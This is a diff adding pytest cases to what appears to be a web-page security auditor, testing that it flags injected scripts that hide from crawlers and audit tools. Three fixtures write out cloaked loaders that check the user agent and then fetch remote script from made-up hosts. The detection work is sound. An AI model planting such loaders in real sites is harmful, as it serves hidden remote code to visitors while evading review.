@@ -2544,3 +2544,56 @@ def test_a_file_invented_in_the_templates_own_folder_reads_as_the_templates(
     verdicts = [[f.severity for f in audit_listed(page, URL).findings
                  if f.kind == "appended-script"] for page in (own, invented)]
     assert verdicts == [[], []]
+
+
+# a loader hidden from crawlers and page audits: a user-agent test for their names before
+# another site's script (made-up hosts; the shapes a scraper's injected kit writes)
+_CRAWLER_CLOAKED = {
+    "document.write behind a bot test": (
+        "<script>if(!/bot|crawl|spider/i.test(navigator.userAgent)){document.write('<scr'+'ipt "
+        "src=\"https://cdn.quick-load.example/p.js\"></scr'+'ipt>');}</script>"),
+    "a script element behind a Lighthouse test": (
+        "<script>if(navigator.userAgent.indexOf('Chrome-Lighthouse')==-1){var s=document."
+        "createElement('script');s.src='https://go.popflow.example/tag.js?z=8812';document.body."
+        "appendChild(s);}</script>"),
+    "an early return for headless browsers": (
+        "<script>(function(){var u=navigator.userAgent;if(/HeadlessChrome|Googlebot/.test(u))"
+        "return;var s=document.createElement('script');s.async=true;s.src='//cdn.quick-load."
+        "example/q.js';document.head.appendChild(s);})();</script>"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(_CRAWLER_CLOAKED))
+def test_a_loader_hidden_from_crawlers_is_medium(name: str, audit_listed: AuditListed) -> None:
+    """Another site's script loaded only where the user agent is no crawler's or audit's
+    is a cloaked loader, worth a look (it was no finding: a third-party script the page's
+    code loads is the page's business, and the test before it went unread)."""
+    report = audit_listed(wp_page(widget=_CRAWLER_CLOAKED[name]), URL)
+    found = [f for f in report.findings if f.kind == "tds-loader"]
+    assert [f.severity for f in found] == [M], report.findings
+    assert "crawler" in found[0].message and "check the site chose" in found[0].message
+
+
+@pytest.mark.parametrize("code", [
+    # the same loader with no user-agent test: a site's own third-party tag
+    "<script>var s=document.createElement('script');s.src='https://cdn.quick-load.example/q.js';"
+    "document.head.appendChild(s);</script>",
+    # a test of the device, not of a crawler
+    "<script>if(/Android|iPhone/i.test(navigator.userAgent)){var s=document.createElement("
+    "'script');s.src='https://cdn.quick-load.example/m.js';document.head.appendChild(s);}"
+    "</script>",
+    # a vendor the catalogue knows, spared to crawlers
+    "<script>if(!/bot|crawl|spider/i.test(navigator.userAgent)){var s=document.createElement("
+    "'script');s.src='https://www.googletagmanager.com/gtag/js?id=G-ABCDE12345';document.head"
+    ".appendChild(s);}</script>",
+    # a crawler test far before the load, in another part of a bundle
+    "<script>var isBot=/bot|crawl/i.test(navigator.userAgent);" + "var pad=0;" * 80
+    + "var s=document.createElement('script');s.src='https://cdn.quick-load.example/q.js';"
+    "document.head.appendChild(s);</script>",
+], ids=["no user-agent test", "a device test", "a known vendor", "a test far away"])
+def test_a_loader_not_hidden_from_crawlers_is_none(code: str, audit_listed: AuditListed
+                                                   ) -> None:
+    """No crawler test before the address, a test of the device, a vendor the lists know:
+    no cloaked loader."""
+    report = audit_listed(wp_page(widget=code), URL)
+    assert [f for f in report.findings if f.kind == "tds-loader"] == [], report.findings
